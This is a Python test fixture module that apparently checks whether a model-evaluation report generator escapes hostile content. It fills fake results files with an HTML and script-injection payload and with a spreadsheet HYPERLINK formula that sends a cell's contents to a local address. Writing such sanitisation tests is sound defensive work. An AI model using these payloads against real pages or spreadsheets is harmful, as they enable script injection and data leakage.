"""A results folder of a few hostile answers, and its report."""

import json

import pytest

from modellab.core import layout
from modellab.core.io.csv_file import write_csv
from modellab.core.io.jsonl import write_json
from modellab.core.layout import table_file
from modellab.core.records import Metric, ModelScores, Outcome, Summary
from modellab.reporting.page.page import write_report
from modellab.reporting.page.results import DatasetResults
from modellab.tasks import parse_task

#: breaks out of HTML, attributes, scripts, comments and JSON, if anything lets it
HOSTILE = (
    "<img src=x onerror=document.title='broken'></script></textarea>"
    '<script>document.title="broken"</script><!-- "\'`{{ 7*7 }} [a](javascript:alert(1)) \u202etxt\x07'
)
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")'
QUESTIONS = {"q1": "How much?", "q2": f"Who? {HOSTILE}", "q/3 &=#": FORMULA}
MODELS = ("good", "bad")
#: by model: marks of the questions with bm25
MARKS = {"good": (1.0, 1.0, 0.0), "bad": (1.0, 0.0, 0.0)}


def write_lines(path, rows):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))


def question(name, text):
    truth = {"answer_value": "5", "answer": HOSTILE}
    return {
        "id": name,
        "text": text,
        "inputs": {"answer_unit": "kWh"},
        "reference": truth,
        "other_answers": ["5.0", HOSTILE],
        "references": ["doc"],
        "tags": ["Quote"] if name == "q1" else ["Math", "<b>tag</b>"],
    }


def context(name):
    passages = [
        {"chunk_id": f"{doc}#1", "document_id": doc, "rank": rank, "score": 1.5, "text": text}
        | {"title": "T", "year": 2024}
        for rank, (doc, text) in enumerate([("doc", "Five kWh."), ("other", HOSTILE)], start=1)
    ]
    return {"question_id": name, "retriever": "bm25", "passages": passages}


def prediction(name, mark):
    answer = {"answer_value": FORMULA, "ref_id": '["doc"]', "explanation": HOSTILE}
    return {
        "question_id": name,
        "retriever": "bm25",
        "repeat": 1,
        "status": "answered" if mark else "abstained",
        "answer": answer,
        "raw": HOSTILE,
        "key": "k",
        "latency_seconds": 0.5,
        "passages": ["doc#1", "other#1"],
    }


def scores(model):
    marks = MARKS[model]
    metric = Metric(sum(marks) / 3, 3, 0)
    summary = Summary(
        retriever="bm25",
        num_questions=3,
        repeats=1,
        coverage=1.0,
        statuses={"answered": 3},
        metrics={"overall": metric},
        outcomes=dict.fromkeys(Outcome, 0)
        | {"right": int(sum(marks)), "declined": 3 - int(sum(marks))},
        abstention_precision=Metric(None, 0),
        abstention_recall=Metric(None, 0),
        avg_latency_seconds=0.5,
        p50_latency_seconds=0.5,
        p95_latency_seconds=0.5,
        total_time_seconds=1.5,
        input_tokens=None,
        output_tokens=None,
        estimated_cost_usd=None,
        total_retries=0,
    )
    return ModelScores(
        *(model, "hostile", "wattbot", "v3", "incorrect", "extractive", HOSTILE, True, None),
        summaries=(summary,),
        correct="value_correct",
    )


def write_results(folder):
    from dataclasses import asdict

    prompt = folder.parent / "prompt.jinja"
    prompt.parent.mkdir(parents=True, exist_ok=True)
    prompt.write_text("{% block user %}Q: {{ question }} P: {{ passages[0].text }}{% endblock %}")
    from modellab.core.fingerprint import file_digest

    write_lines(folder / layout.QUESTIONS, [question(*pair) for pair in QUESTIONS.items()])
    write_lines(folder / "contexts" / "bm25.jsonl", map(context, QUESTIONS))
    for model in MODELS:
        pairs = list(zip(QUESTIONS, MARKS[model], strict=True))
        rows = [prediction(*pair) for pair in pairs]
        write_lines(folder / "predictions" / f"{model}.jsonl", rows)
        write_json(folder / "scores" / f"{model}.json", asdict(scores(model)))
        cells = [
            {"question_id": name, "retriever": "bm25", "repeat": 1, "value_correct": mark}
            | {"status": "answered" if mark else "abstained", "answer_value": FORMULA}
            | {"outcome": "right" if mark else "declined"}
            for name, mark in pairs
        ]
        write_csv(folder / "scores" / f"{model}.csv", list(cells[0]), cells)
        used = {"path": str(prompt), "sha256": file_digest(prompt)}
        run = {"model_id": HOSTILE, "prompt": used if model == "good" else None, "runs": []}
        write_json(folder / "runs" / f"{model}.json", run)
    judged = {
        "model": "good",
        "question_id": "q2",
        "retriever": "bm25",
        "repeat": 1,
        "metric": "faithfulness",
    }
    judged |= {"judge_repeat": 1, "state": "scored", "value": 2, "reason": None, "comment": HOSTILE}
    write_lines(folder / "judgements" / "strict.jsonl", [judged])
    audit = {"system": "good@bm25", "check": "coverage", "status": "failure", "value": 1}
    audit |= {"threshold": 2, "message": HOSTILE}
    write_csv(folder / table_file("audit"), list(audit), [audit])


def make_report(folder, **options):
    results = DatasetResults(folder, MODELS, **options)
    write_report(results, parse_task("wattbot"), folder / "report")
    return folder / "report"


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    """The folder `results/hostile`, without a report."""
    folder = tmp_path_factory.mktemp("report") / "results" / "hostile"
    write_results(folder)
    return folder


@pytest.fixture(scope="module")
def report(results):
    return make_report(results)
